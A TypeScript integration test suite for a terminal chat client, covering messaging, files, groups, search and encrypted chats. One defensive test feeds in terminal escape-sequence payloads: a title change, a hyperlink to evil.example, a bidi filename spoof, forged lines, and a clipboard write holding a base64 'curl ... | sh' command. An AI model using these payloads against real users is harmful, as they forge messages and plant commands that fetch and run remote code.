// Integration: the built `parley` CLI, two users with separate PARLEY_HOME dirs, against a real server.

import assert from "node:assert/strict";
import { type ChildProcessWithoutNullStreams, spawn } from "node:child_process";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { fileURLToPath } from "node:url";
import { startParley } from "@parley/server";

const MAIN = fileURLToPath(new URL("./main.js", import.meta.url));

interface Running {
  child: ChildProcessWithoutNullStreams;
  output(): string;
  waitFor(text: string | RegExp, timeoutMs?: number): Promise<void>;
  send(line: string): void;
  exit: Promise<number | null>;
}

describe("parley CLI", () => {
  let server: Awaited<ReturnType<typeof startParley>>;
  let root: string;
  const password = "correct horse battery";
  const suffix = String(process.pid % 10_000);
  const alice = `alice_${suffix}`;
  const bob = `bob_${suffix}`;
  const running: Running[] = [];

  const home = (user: string) => join(root, user);
  const env = (user: string): NodeJS.ProcessEnv => ({
    PATH: process.env.PATH,
    PARLEY_HOME: home(user),
    PARLEY_URL: server.url,
    PARLEY_PASSWORD: password,
  });

  function start(user: string, args: string[]): Running {
    const child = spawn(process.execPath, [MAIN, ...args], { env: env(user) });
    let out = "";
    child.stdout.setEncoding("utf8");
    child.stderr.setEncoding("utf8");
    child.stdout.on("data", (chunk: string) => {
      out += chunk;
    });
    child.stderr.on("data", (chunk: string) => {
      out += chunk;
    });
    const exit = new Promise<number | null>((resolve) => child.on("close", (code) => resolve(code)));
    const r: Running = {
      child,
      output: () => out,
      exit,
      send: (line) => child.stdin.write(`${line}\n`),
      waitFor: async (text, timeoutMs = 10_000) => {
        const deadline = Date.now() + timeoutMs;
        const found = () => (typeof text === "string" ? out.includes(text) : text.test(out));
        while (!found()) {
          if (Date.now() > deadline) throw new Error(`timed out waiting for ${String(text)}; output so far:\n${out}`);
          await new Promise((resolve) => setTimeout(resolve, 20));
        }
      },
    };
    running.push(r);
    return r;
  }

  async function run(user: string, args: string[], stdin = ""): Promise<{ code: number | null; output: string }> {
    const r = start(user, args);
    r.child.stdin.end(stdin);
    const code = await r.exit;
    return { code, output: r.output() };
  }

  before(async () => {
    root = mkdtempSync(join(tmpdir(), "parley-cli-it-"));
    server = await startParley({ port: 0, host: "127.0.0.1", dataDir: join(root, "data"), logLevel: "silent" });
  });

  after(async () => {
    for (const r of running) if (r.child.exitCode === null) r.child.kill();
    await server.close();
    rmSync(root, { recursive: true, force: true });
  });

  it("registers users and keeps credentials private", async () => {
    const a = await run(alice, ["register", alice, "--display-name", "Alice"]);
    assert.equal(a.code, 0, a.output);
    assert.match(a.output, /Registered and logged in as alice_\d+ \(Alice\)/);
    const b = await run(bob, ["register", bob]);
    assert.equal(b.code, 0, b.output);
    const file = join(home(alice), "credentials.json");
    assert.equal(statSync(file).mode & 0o777, 0o600);
    const saved = JSON.parse(readFileSync(file, "utf8"));
    assert.equal(saved.server, server.url);
    assert.equal(saved.credentials.user.username, alice);
    const who = await run(alice, ["whoami"]);
    assert.equal(who.code, 0, who.output);
    assert.match(who.output, new RegExp(`${alice} \\(Alice\\) on ${server.url}`));
  });

  it("dm: a line typed by one user is printed by the other", async () => {
    const bobChat = start(bob, ["dm", alice]);
    await bobChat.waitFor("── Alice (direct)");
    const aliceChat = start(alice, ["dm", bob]);
    await aliceChat.waitFor(`── ${bob} (direct)`);
    aliceChat.send("hello from alice");
    await bobChat.waitFor(/\[\d\d:\d\d\] Alice: hello from alice/);
    bobChat.send("hi alice, bob here");
    await aliceChat.waitFor(new RegExp(`\\[\\d\\d:\\d\\d\\] ${bob}: hi alice, bob here`));
    // Bob's screen marks it read: alice's own line gets its ticks.
    await aliceChat.waitFor("✓✓ read");
    aliceChat.send("/quit");
    bobChat.send("/quit");
    assert.equal(await aliceChat.exit, 0, aliceChat.output());
    assert.equal(await bobChat.exit, 0, bobChat.output());
    assert.match(aliceChat.output(), /you: hello from alice ✓/);
  });

  it("chat commands: reply, edit, react, delete for everyone and for me, shown with #seq on both screens", async () => {
    const bobChat = start(bob, ["dm", alice]);
    await bobChat.waitFor("/help for commands");
    const aliceChat = start(alice, ["dm", bob]);
    await aliceChat.waitFor("/help for commands");
    aliceChat.send("quote me please");
    await bobChat.waitFor(/#\d+ \[\d\d:\d\d\] Alice: quote me please/);
    const seq = /#(\d+) \[\d\d:\d\d\] Alice: quote me please/.exec(bobChat.output())![1]!;

    bobChat.send(`/reply ${seq} my answer`);
    await aliceChat.waitFor(
      new RegExp(`#(\\d+) \\[\\d\\d:\\d\\d\\] ${bob}: \\(re #${seq} Alice: "quote me please"\\) my answer`),
    );
    const replySeq = new RegExp(`#(\\d+) \\[\\d\\d:\\d\\d\\] ${bob}: \\(re #${seq}`).exec(aliceChat.output())![1]!;

    aliceChat.send(`/edit ${seq} quote, edited`);
    await bobChat.waitFor(new RegExp(`↳ #${seq} \\[\\d\\d:\\d\\d\\] Alice: quote, edited \\(edited\\)`));
    bobChat.send(`/react ${seq} 👍`);
    await aliceChat.waitFor(new RegExp(`#${seq} \\[\\d\\d:\\d\\d\\] you: quote, edited \\(edited\\) 👍 1`));
    bobChat.send(`/edit ${seq} not mine`);
    await bobChat.waitFor(`! edit of #${seq} refused`);

    aliceChat.send(`/delete ${seq}`);
    await bobChat.waitFor(new RegExp(`#${seq} \\[\\d\\d:\\d\\d\\] Alice: \\(this message was deleted\\)`));
    // The reply on screen now quotes a deleted message.
    await bobChat.waitFor(new RegExp(`#${replySeq} \\[\\d\\d:\\d\\d\\] you: \\(re #${seq} deleted message\\) my answer`));
    aliceChat.send(`/delete ${replySeq} --me`);
    await aliceChat.waitFor(new RegExp(`#${replySeq} \\[\\d\\d:\\d\\d\\] ${bob}: \\(you deleted this message\\)`));
    aliceChat.send("/what");
    await aliceChat.waitFor("/react <#> <emoji>");
    aliceChat.send("/quit");
    bobChat.send("/quit");
    assert.equal(await aliceChat.exit, 0, aliceChat.output());
    assert.equal(await bobChat.exit, 0, bobChat.output());
    assert.ok(!bobChat.output().includes("(you deleted this message)"), "delete for me is alice's alone");

    // A new chat screen shows the final state from history.
    const later = await run(bob, ["dm", alice], "/quit\n");
    assert.match(later.output, new RegExp(`#${seq} \\[\\d\\d:\\d\\d\\] Alice: \\(this message was deleted\\)`));
    assert.match(later.output, new RegExp(`#${replySeq} \\[\\d\\d:\\d\\d\\] you: \\(re #${seq} deleted message\\) my answer`));
  });

  it("lists conversations with unread counts, and sends from a script on stdin", async () => {
    const sent = await run(alice, ["dm", bob], "scripted one\nscripted two\n");
    assert.equal(sent.code, 0, sent.output);
    const list = await run(bob, ["conversations"]);
    assert.equal(list.code, 0, list.output);
    assert.match(list.output, /ID\s+NAME\s+KIND\s+UNREAD/);
    assert.match(list.output, /Alice\s+direct\s+2\s+.*Alice: scripted two/);
  });

  it("exchanges files: send-file and /file in the chat; the other side sees name, size, type and a download URL", async () => {
    const pdfPath = join(root, "notes.pdf");
    const pdfBytes = Buffer.from("%PDF-1.4\n% a small document\n%%EOF\n");
    writeFileSync(pdfPath, pdfBytes);
    const pngPath = join(root, "dot.png");
    writeFileSync(
      pngPath,
      Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==", "base64"),
    );
    const conversationId = /^(\S+)\s+Alice\s+direct/m.exec((await run(bob, ["conversations"])).output)?.[1];
    assert.ok(conversationId, "bob's direct conversation with alice");
    const bobChat = start(bob, ["chat", conversationId]);
    await bobChat.waitFor("── Alice (direct)");
    const sent = await run(alice, ["send-file", conversationId, pdfPath, "the", "notes"]);
    assert.equal(sent.code, 0, sent.output);
    assert.match(sent.output, /Sent 📎 notes\.pdf \(\d+ B, application\/pdf\) as #\d+\./);
    await bobChat.waitFor(/Alice: the notes\n\s+📎 notes\.pdf \(\d+ B, application\/pdf\)/);
    await bobChat.waitFor(/↓ notes\.pdf: (http\S+)/);
    const url = /↓ notes\.pdf: (http\S+)/.exec(bobChat.output())![1]!;
    assert.deepEqual(Buffer.from(await (await fetch(url)).arrayBuffer()), pdfBytes, "the link downloads the file");
    const aliceChat = start(alice, ["chat", conversationId]);
    await aliceChat.waitFor(`── ${bob} (direct)`);
    aliceChat.send(`/file ${pngPath}`);
    await bobChat.waitFor(/📎 dot\.png \(\d+ B, image\/png, 1×1\)/);
    aliceChat.send("/file /no/such/file.txt");
    await aliceChat.waitFor(/! file not sent: Cannot read \/no\/such\/file\.txt: ENOENT/);
    aliceChat.send("/quit");
    bobChat.send("/quit");
    assert.equal(await aliceChat.exit, 0, aliceChat.output());
    assert.equal(await bobChat.exit, 0, bobChat.output());
  });

  it("creates a group and manages its members", async () => {
    const carol = `carol_${suffix}`;
    assert.equal((await run(carol, ["register", carol])).code, 0);
    const created = await run(alice, ["group", "create", "Project X", bob]);
    assert.equal(created.code, 0, created.output);
    const id = /: (\S+)\s*$/.exec(created.output.trim())?.[1];
    assert.ok(id, created.output);
    const added = await run(alice, ["group", "add", id, carol]);
    assert.equal(added.code, 0, added.output);
    const chat = await run(carol, ["chat", id], "/quit\n");
    assert.equal(chat.code, 0, chat.output);
    assert.match(chat.output, /── Project X \(group, 3 members\)/);
    const removed = await run(alice, ["group", "remove", id, carol]);
    assert.equal(removed.code, 0, removed.output);
    const banned = await run(alice, ["group", "ban", id, bob, "too", "loud"]);
    assert.equal(banned.code, 0, banned.output);
    assert.match(banned.output, /Banned .* and removed them\./);
    const bans = await run(alice, ["group", "bans", id]);
    assert.match(bans.output, /too loud/);
    const refused = await run(alice, ["group", "add", id, bob]);
    assert.notEqual(refused.code, 0, refused.output);
    assert.equal((await run(alice, ["group", "unban", id, bob])).code, 0);
    assert.match((await run(alice, ["group", "bans", id])).output, /Nobody is banned/);
    assert.equal((await run(alice, ["group", "add", id, bob])).code, 0);
  });

  it("search: prints the user's matches with highlights, and /search inside a chat", async () => {
    const found = await run(bob, ["search", "scripted"]);
    assert.equal(found.code, 0, found.output);
    assert.match(found.output, /\[[^\]]+\] Alice #\d+ Alice: \*scripted\* two/);
    assert.match(found.output, /2 match\(es\)\./);
    const none = await run(bob, ["search", "zzzunknownword"]);
    assert.match(none.output, /No messages match "zzzunknownword"\./);
    const outsider = `dave_${suffix}`;
    assert.equal((await run(outsider, ["register", outsider])).code, 0);
    assert.match((await run(outsider, ["search", "scripted"])).output, /No messages match/);
    const inChat = await run(bob, ["dm", alice], "/search scripted one\n/quit\n");
    assert.equal(inChat.code, 0, inChat.output);
    assert.match(inChat.output, /\* 1 match\(es\) for "scripted one"/);
    assert.match(inChat.output, /#\d+ Alice: \*scripted\* \*one\*/);
  });

  it("security review #6: names, titles and bodies from the server cannot drive the terminal or forge lines", async () => {
    const mallory = `mallory_${suffix}`;
    assert.equal((await run(mallory, ["register", mallory])).code, 0);
    const { accounts, conversations, messages } = server.services;
    const malloryId = (await accounts.byUsername(mallory)).id;
    const bobId = (await accounts.byUsername(bob)).id;
    // Stored as names were before the server checked them (security review #8): sets the window title, erases the line.
    await accounts.updateProfile(malloryId, "Alice\x1b]0;PWNED\x07\x1b[2K");
    const direct = await conversations.openDirect(malloryId, bobId);
    await conversations.createGroup(malloryId, "Team\x1b]8;;https://evil.example/\x07X\x1b]8;;\x07\u202egnp.exe", [bobId]);
    const bodies = [
      // OSC 52: writes the victim's clipboard.
      "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07copied",
      // Cursor up, erase line, carriage return: overwrites the line above with a forged one.
      "ok\x1b[1A\x1b[2K\r[12:00] Alice: cursor forged",
      // A newline followed by what looks like another sender's line.
      "line one\n[12:00] Alice: newline forged",
      // 8-bit CSI (C1) and a DCS string.
      "c1\x9b2J\x1bP+q544e\x1b\\ dcs",
    ];
    let clientId = 0;
    for (const body of bodies) await messages.send(malloryId, { conversationId: direct.id, clientId: `evil${++clientId}`, body });

    // Anything but a newline that a terminal would act on: ESC, BEL, CR, backspace, C1 controls, bidi overrides.
    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters is the point
    const drives = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
    const forgedLine = /^(#\d+ )?\[12:00\] Alice:/m;

    const chat = await run(bob, ["dm", mallory], "/quit\n");
    assert.equal(chat.code, 0, chat.output);
    assert.doesNotMatch(chat.output, drives, JSON.stringify(chat.output));
    assert.doesNotMatch(chat.output, forgedLine, chat.output);
    assert.match(chat.output, /── Alice␛\]0;PWNED␇␛\[2K \(direct\)/);
    assert.match(chat.output, /Alice␛\]0;PWNED␇␛\[2K: ␛\]52;c;Y3Vyb\S+␇copied/);
    assert.match(chat.output, /: ok␛\[1A␛\[2K␍\[12:00\] Alice: cursor forged/);
    assert.match(chat.output, /: line one\n {4}\[12:00\] Alice: newline forged/);

    const list = await run(bob, ["conversations"]);
    assert.equal(list.code, 0, list.output);
    assert.doesNotMatch(list.output, drives, JSON.stringify(list.output));
    assert.match(list.output, /Team␛\]8;;https:\/\/evil\.example\/␇X␛\]8;;␇\ufffdgnp\.exe\s+group/);
    assert.match(list.output, /Alice␛\]0;PWNED␇␛\[2K\s+direct/);

    const found = await run(bob, ["search", "copied"]);
    assert.equal(found.code, 0, found.output);
    assert.doesNotMatch(found.output, drives, JSON.stringify(found.output));
  });

  it("fails clearly: unknown command, not logged in, wrong password; logout forgets the session", async () => {
    const unknown = await run(alice, ["frobnicate"]);
    assert.equal(unknown.code, 2);
    assert.match(unknown.output, /Unknown command/);
    const nobody = await run("nobody", ["whoami"]);
    assert.equal(nobody.code, 1);
    assert.match(nobody.output, /Not logged in/);
    const wrong = await run("nobody", ["login", alice, "--password", "not the password"]);
    assert.equal(wrong.code, 1);
    assert.match(wrong.output, /invalid_credentials/);
    const out = await run(bob, ["logout"]);
    assert.equal(out.code, 0, out.output);
    assert.throws(() => statSync(join(home(bob), "credentials.json")));
    const relogin = await run(bob, ["login", bob]);
    assert.equal(relogin.code, 0, relogin.output);
  });
  it("encrypted chats: dm --encrypted and group create --encrypted, files encrypted, MLS state under PARLEY_HOME", async () => {
    // Users of their own (the suite's other tests have a carol already).
    const carol = `ecarol_${suffix}`;
    const dave = `edave_${suffix}`;
    // Registering signs the device up for encryption, so the other can add it at once.
    for (const user of [carol, dave]) {
      const registered = await run(user, ["register", user]);
      assert.equal(registered.code, 0, registered.output);
    }
    const carolChat = start(carol, ["dm", dave, "--encrypted"]);
    await carolChat.waitFor(`── ${dave} (direct, end-to-end encrypted)`);
    const daveChat = start(dave, ["dm", carol, "--encrypted"]);
    await daveChat.waitFor(`── ${carol} (direct, end-to-end encrypted)`);
    const secretLine = `whisper ${process.pid} ${Date.now()}`;
    carolChat.send(secretLine);
    await daveChat.waitFor(new RegExp(`#(\\d+) \\[\\d\\d:\\d\\d\\] ${carol}: ${secretLine}`));
    const seq = new RegExp(`#(\\d+) \\[\\d\\d:\\d\\d\\] ${carol}: ${secretLine}`).exec(daveChat.output())![1];
    daveChat.send(`/reply ${seq} encrypted answer`);
    await carolChat.waitFor(new RegExp(`\\(re #${seq} ${dave}: .*\\) encrypted answer|encrypted answer`));
    const notes = join(root, "secret-notes.txt");
    const fileText = `file contents ${process.pid}`;
    writeFileSync(notes, fileText);
    carolChat.send(`/file ${notes}`);
    await daveChat.waitFor(/secret-notes\.txt \(\d+ B, end-to-end encrypted\)/);
    const fileSeq = /#(\d+) [^\n]*\n[^\n]*secret-notes\.txt/.exec(daveChat.output())?.[1];
    carolChat.send("/quit");
    daveChat.send("/quit");
    assert.equal(await carolChat.exit, 0);
    assert.equal(await daveChat.exit, 0);
    const conversationId = /^(\S+)\s+\S+\s+direct/m.exec((await run(dave, ["conversations"])).output)?.[1];
    assert.ok(conversationId && fileSeq, "the encrypted conversation and the file's message are listed");
    const out = join(root, "saved");
    mkdirSync(out);
    const saved = await run(dave, ["save-file", conversationId!, fileSeq!, out]);
    assert.equal(saved.code, 0, saved.output);
    assert.equal(readFileSync(join(out, "secret-notes.txt"), "utf8"), fileText);

    // The device's MLS state is in files under PARLEY_HOME, private to the user.
    const session = JSON.parse(readFileSync(join(home(dave), "credentials.json"), "utf8")).credentials.sessionId as string;
    const dir = join(home(dave), "mls", session);
    assert.ok(
      readdirSync(dir).some((f) => f.startsWith("group")),
      "a group state file",
    );
    assert.equal(statSync(dir).mode & 0o777, 0o700);
    const group = await run(carol, ["group", "create", "hush", dave, "--encrypted"]);
    assert.match(group.output, /Created end-to-end encrypted group "hush"/);
    // Nothing of the texts reached the server's database.
    const db = readdirSync(join(root, "data")).filter((f) => f.endsWith(".db") || f.endsWith(".db-wal"));
    const dump = Buffer.concat(db.map((f) => readFileSync(join(root, "data", f))));
    assert.ok(!dump.includes(Buffer.from(secretLine)) && !dump.includes(Buffer.from(fileText)));
    assert.ok(!dump.includes(Buffer.from("encrypted answer")));
  });
});
